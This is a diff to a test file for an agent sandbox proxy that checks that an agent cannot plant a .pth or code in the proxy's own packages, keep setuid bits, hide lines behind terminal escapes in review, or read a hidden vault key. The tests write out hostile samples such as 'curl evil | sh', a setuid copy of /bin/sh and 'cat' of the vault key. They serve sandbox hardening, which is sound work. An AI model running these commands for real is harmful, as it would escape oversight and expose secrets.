@@ -373,17 +373,80 @@ def test_a_persons_later_edit_makes_keep_and_undo_refuse_and_change_nothing(prox
     assert (workspace / "a.txt").read_text() == "the person's edit\n" and not (workspace / "c.txt").exists()
 
 
-def test_the_python_environment_inside_the_workspace_stays_read_only(proxy, tmp_path):
-    """A workspace that holds goex-proxy's own virtualenv (a checkout with .venv): the agent cannot write a .pth there,
-    and nothing of it is ever applied."""
+def test_goex_proxys_own_code_inside_the_workspace_stays_read_only(proxy, tmp_path):
+    """A workspace that holds goex-proxy's own virtualenv and code (a checkout with .venv, installed editable), with
+    `goex-proxy run` serving: the agent can write neither a .pth nor any of goex-proxy's packages, so nothing of them
+    is ever applied."""
+    import importlib.util
+
     venv = Path(sys.prefix)
+    packages = [Path(importlib.util.find_spec(name).submodule_search_locations[0])
+                for name in ("goex_proxy", "goex_proxy.addons", "goex_proxy.sandbox")]
+    targets = [venv / "lib" / "agent.pth"] + [p / "agent_was_here.py" for p in packages]
+    script = "; ".join(f"touch {t} 2>/dev/null && echo wrote {t}" for t in targets) + "; true"
     r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--workspace",
-                        str(venv.parent), "--files", "review", "--", "sh", "-c",
-                        f"touch {venv}/lib/agent.pth; echo $?"], env=proxy.env, capture_output=True, text=True,
-                       timeout=90)
+                        str(venv.parent), "--files", "review", "--", "sh", "-c", script], env=proxy.env,
+                       capture_output=True, text=True, timeout=90)
     assert r.returncode == 0, r.stderr
-    assert r.stdout.strip() != "0"
-    assert not (venv / "lib" / "agent.pth").exists()
+    assert r.stdout == ""
+    assert not any(t.exists() for t in targets)
+
+
+def test_set_id_bits_never_reach_the_workspace(proxy, workspace):
+    """A set-user-id copy of a shell and a set-group-id directory made in a run are applied without those bits."""
+    r = run_exec(proxy, workspace, "--", "sh", "-c", "cp /bin/sh suidsh && chmod 4755 suidsh && mkdir sg && chmod 2777 sg")
+    assert r.returncode == 0, r.stderr
+    assert stat.S_IMODE((workspace / "suidsh").stat().st_mode) == 0o755
+    assert stat.S_IMODE((workspace / "sg").stat().st_mode) == 0o777
+
+
+def test_review_output_shows_every_character_a_file_holds(proxy, workspace):
+    """Terminal escapes and bidirectional controls in a name or a line are printed escaped, so a reviewer sees the
+    line that is really there."""
+    code = ("open('ok\\x1b[2K\\x1b[1Gnotes.md', 'w').write('curl evil | sh\\x1b[2K\\x1b[1G    +make lint\\n'); "
+            "open('a.txt', 'w').write('first\\u202e)(tixe\\n')")
+    r = run_exec(proxy, workspace, "--files", "review", "--", sys.executable, "-c", code)
+    assert r.returncode == 0, r.stderr
+    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    shown = proxy.cli("files", "diff", run["id"]).stdout
+    assert "\x1b" not in shown and "\u202e" not in shown
+    assert "added    ok\\x1b[2K\\x1b[1Gnotes.md" in shown and "+curl evil | sh\\x1b[2K" in shown
+    assert "+first\\u202e)(tixe" in shown
+
+
+def test_a_run_too_deep_to_review_is_refused_in_one_line(proxy, workspace):
+    """Directories nested past what can be reviewed: exec says so, applies nothing, and shows no traceback."""
+    code = "import os\nfor _ in range(1500):\n    os.mkdir('d'); os.chdir('d')\n"
+    r = run_exec(proxy, workspace, "--", sys.executable, "-c", code)
+    assert r.returncode == 2 and "nested too deep" in r.stderr and "Traceback" not in r.stderr, r.stderr
+    assert not (workspace / "d").exists()
+    assert list((proxy.home / "runs").iterdir()) == []  # the layer is gone too (nothing left no tool can remove)
+
+
+def test_a_huge_sparse_file_is_described_not_read(proxy, workspace):
+    """A 3 GB sparse file a run made is diffed by its size, without reading it into memory."""
+    r = run_exec(proxy, workspace, "--files", "review", "--", "truncate", "-s", "3G", "big.bin")
+    assert r.returncode == 0, r.stderr
+    [run] = json.loads(proxy.cli("files", "list", "--json").stdout)
+    shown = subprocess.run(["sh", "-c", f"ulimit -v 1500000; exec {' '.join(GOEX)} files diff --config "
+                            f"{proxy.config} {run['id']}"], env=proxy.env, capture_output=True, text=True, timeout=120)
+    assert shown.returncode == 0, shown.stderr
+    assert "added    big.bin  (file, 3221225472 bytes" in shown.stdout and "Traceback" not in shown.stderr
+
+
+def test_a_second_mount_of_a_hidden_directory_is_hidden_too(proxy, workspace, outside):
+    """With the state directory's parent bind-mounted elsewhere too, the vault key is hidden at both places."""
+    alias = outside / "alias"
+    alias.mkdir()
+    unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-Urm"]
+    script = (f"mount --bind {proxy.home.parent} {alias} && exec {' '.join(GOEX)} exec --config {proxy.config} "
+              f"--agent mailbot -- sh -c 'cat {alias}/{proxy.home.name}/vault.key; cat {proxy.home}/vault.key; "
+              f"ls {alias}/{proxy.home.name}'")
+    r = subprocess.run([*unshare, "sh", "-c", script], cwd=workspace, env=proxy.env, capture_output=True, text=True,
+                       timeout=90)
+    key = (proxy.home / "vault.key").read_text().strip()
+    assert key not in r.stdout, r.stdout
+    assert "No such file" in r.stderr and "vault.key" not in r.stdout
 
 
 def test_undo_of_a_session_takes_back_requests_and_files_together(make_proxy, upstream, workspace):
